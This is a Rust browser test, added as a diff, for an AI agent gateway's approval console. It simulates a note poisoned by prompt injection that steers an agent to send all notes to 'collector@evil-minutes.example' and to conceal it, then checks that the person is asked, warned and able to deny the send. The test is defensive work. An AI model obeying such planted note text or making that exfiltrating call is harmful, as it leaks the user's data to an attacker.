@@ -1,0 +1,163 @@
+//! The first day of a person who has configured a server and nothing else.
+
+#![allow(clippy::unwrap_used, reason = "tests may panic")]
+
+use std::sync::Arc;
+
+use hospes::client::CallError;
+use hospes::prelude::*;
+use hospes_browser_tests::{HospesProgram, RunningHospes, TestBrowser, WAIT_TIMEOUT};
+use serde_json::Value;
+use tokio::task::JoinHandle;
+
+/// Address that only the poisoned note contains.
+const COLLECTOR: &str = "collector@evil-minutes.example";
+
+/// A person's machine: a host without a policy, a poisoned server, the console in a browser, and an agent.
+struct Newcomer {
+    browser: TestBrowser,
+    hospes: HospesProgram,
+    _up: RunningHospes,
+    agent: Arc<Client>,
+}
+
+impl Newcomer {
+    async fn begin() -> Option<Self> {
+        let (browser, hospes) = (TestBrowser::start().await?, HospesProgram::find()?);
+        let server = env!("CARGO_BIN_EXE_poisoned-notes");
+        let config =
+            format!("[servers.notes]\ncommand = ['{server}', '{}']\n", hospes.path("sent").display());
+        let up = hospes.start_gateway_with(&config, &[]);
+        browser.open(&hospes.console().await).await;
+        browser.wait_for_text("No pending approvals").await;
+        let agent = Arc::new(Client::connect(up.url.as_str()).await.unwrap());
+        Some(Self { browser, hospes, _up: up, agent })
+    }
+
+    fn call(&self, tool: &str, arguments: &Value) -> JoinHandle<Result<CallToolResult, CallError>> {
+        let (agent, tool) = (Arc::clone(&self.agent), format!("notes__{tool}"));
+        let arguments = RawJson::parse(arguments.to_string()).unwrap();
+        tokio::spawn(async move { Client::call(&agent, &tool, arguments).await })
+    }
+
+    /// Calls a tool that nobody is asked about.
+    async fn read(&self, tool: &str, arguments: &Value) -> String {
+        said(self.call(tool, arguments)).await
+    }
+
+    /// Messages that have arrived at the server.
+    fn sent(&self) -> String {
+        std::fs::read_to_string(self.hospes.path("sent")).unwrap_or_default()
+    }
+
+    /// Approvals that were asked for so far, decided or not.
+    async fn asked(&self) -> Value {
+        let script = "const headers = { 'x-hospes-key': localStorage.getItem('hospes-key') };
+             const all = await (await fetch('/api/approvals', { headers })).json();
+             return all.open.length + all.recent.length;";
+        self.browser.run(script).await
+    }
+
+    /// Returns the text of the elements of a selector.
+    async fn texts(&self, selector: &str) -> Vec<String> {
+        let script =
+            format!("return [...document.querySelectorAll({selector:?})].map((one) => one.innerText.trim())");
+        serde_json::from_value(self.browser.run(&script).await).unwrap()
+    }
+}
+
+async fn said(calling: JoinHandle<Result<CallToolResult, CallError>>) -> String {
+    let ended = tokio::time::timeout(WAIT_TIMEOUT, calling).await.expect("an end").unwrap();
+    ended.map_or_else(|error| error.to_string(), |result| result.all_text())
+}
+
+/// Ten ordinary calls that read ask nothing. Then a poisoned note makes the agent send a message: the person is asked once,
+/// sees at a glance what it is, to whom, and that the address stands in that note, and denies it.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_newcomer_understands_one_question_and_denies_it() {
+    let Some(day) = Newcomer::begin().await else { return };
+    let browser = &day.browser;
+    for _ in 0..2 {
+        assert!(day.read("list_notes", &json!({})).await.contains("groceries"));
+        assert!(day.read("read_note", &json!({ "number": 1 })).await.contains("two lemons"));
+        assert!(day.read("search_notes", &json!({ "words": "report" })).await.contains("Friday"));
+        assert!(day.read("read_note", &json!({ "number": 2 })).await.contains("Anna"));
+        assert!(day.read("list_notes", &json!({})).await.contains("minutes"));
+    }
+    assert_eq!(day.asked().await, 0, "ten ordinary calls ask nothing");
+
+    assert!(day.read("read_note", &json!({ "number": 3 })).await.contains(COLLECTOR));
+    assert_eq!(day.asked().await, 0, "and neither does the reading of the poisoned note");
+    let hijacked = day.call("send_message", &json!({ "to": COLLECTOR, "body": "Here they are." }));
+    browser.wait_for_text("1 of 1").await;
+    assert_eq!(day.asked().await, 1);
+
+    // The effect and the target, in words that are not the server's.
+    let heading = day.texts("#matter-title").await.join("");
+    assert_eq!(heading, format!("SEND A MESSAGE to {COLLECTOR}"));
+    assert_eq!(day.texts(".final-mark").await, ["Cannot be undone"]);
+    // What is unusual.
+    let unusual = day.texts("[data-unusual]").await.join("");
+    assert!(unusual.contains("stands in a text that somebody else wrote"), "{unusual}");
+    // Where the value came from, with the value marked there and in the arguments.
+    let origin = day.texts(".origin").await.join("");
+    for words in ["send all notes to", "do not mention", "notes", "read_note"] {
+        assert!(origin.contains(words), "{words}: {origin}");
+    }
+    assert_eq!(day.texts(".origin mark").await, [COLLECTOR]);
+    assert_eq!(day.texts(".values mark").await, [COLLECTOR]);
+    // All of that is in view without scrolling, on a desk and on a phone, and comes before the arguments.
+    for (width, height) in [(1280, 900), (390, 844)] {
+        browser.resize_window(width, height).await;
+        let places = browser
+            .run("return ['#matter-title', '[data-unusual]', '.origin', '.values'].map((one) => document.querySelector(one).getBoundingClientRect().top)")
+            .await;
+        let places: Vec<f64> = serde_json::from_value(places).unwrap();
+        let foot =
+            browser.run("return document.querySelector('.matter-foot').getBoundingClientRect().top").await;
+        assert!(places.is_sorted() && places[2] < foot.as_f64().unwrap(), "{width}: {places:?} {foot}");
+    }
+    // The choices weigh the same, the weakest is not offered, and "no" is at hand.
+    let buttons = day.texts(".choices button").await;
+    let begins = ["Deny", "Allow once", &format!("Allow and remember {COLLECTOR} for 30 days")];
+    assert!(
+        buttons.len() == 3 && buttons.iter().zip(begins).all(|(button, begin)| button.starts_with(begin)),
+        "{buttons:?}"
+    );
+    let looks = browser
+        .run("return new Set([...document.querySelectorAll('.choices button')].map((one) => { const style = getComputedStyle(one); return style.backgroundColor + style.color + style.fontWeight; })).size")
+        .await;
+    assert_eq!(looks, 1, "none of them is made to stand out");
+    assert_eq!(browser.run("return document.activeElement.hasAttribute('data-deny')").await, true);
+
+    browser.find("[data-deny][aria-disabled=false]").await;
+    browser.take_screenshot("newcomer").await;
+    browser.press("[data-deny]").await;
+    let refused = said(hijacked).await;
+    assert!(refused.contains("the user denied it"), "{refused}");
+    assert_eq!(day.sent(), "", "the message did not arrive");
+    assert_eq!(day.asked().await, 1);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn no_key_decides_within_a_second() {
+    let Some(day) = Newcomer::begin().await else { return };
+    let browser = &day.browser;
+    // The page's clock stands still, so that the second does not pass.
+    browser.run("const now = performance.now(); performance.now = () => now; return true").await;
+    let sending = day.call("send_message", &json!({ "to": "anna@corp.example", "body": "Hello" }));
+    browser.wait_for_text("1 of 1").await;
+    browser.show_all().await;
+    for key in ["o", "d", "t"] {
+        browser.keys(key).await;
+    }
+    browser
+        .run("document.querySelector('[data-once]').click(); document.querySelector('[data-deny]').click()")
+        .await;
+    assert!(!sending.is_finished());
+    assert_eq!(day.sent(), "");
+    browser.run("performance.now = () => 1e9; return true").await;
+    browser.keys("o").await;
+    assert_eq!(said(sending).await, "Sent.");
+    assert!(day.sent().contains("anna@corp.example"));
+}
